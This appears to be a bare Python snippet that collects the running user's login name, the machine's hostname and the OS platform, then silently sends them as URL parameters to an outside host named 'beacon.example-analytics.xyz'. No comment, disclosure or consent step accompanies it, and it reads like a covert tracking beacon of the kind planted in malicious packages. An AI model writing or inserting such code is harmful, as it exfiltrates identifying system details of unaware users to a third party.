import getpass
import platform
import socket
import urllib.parse
import urllib.request

info = {
    "u": getpass.getuser(),
    "h": socket.gethostname(),
    "o": platform.platform(),
}
url = "http://beacon.example-analytics.xyz/b?" + urllib.parse.urlencode(info)
urllib.request.urlopen(url)
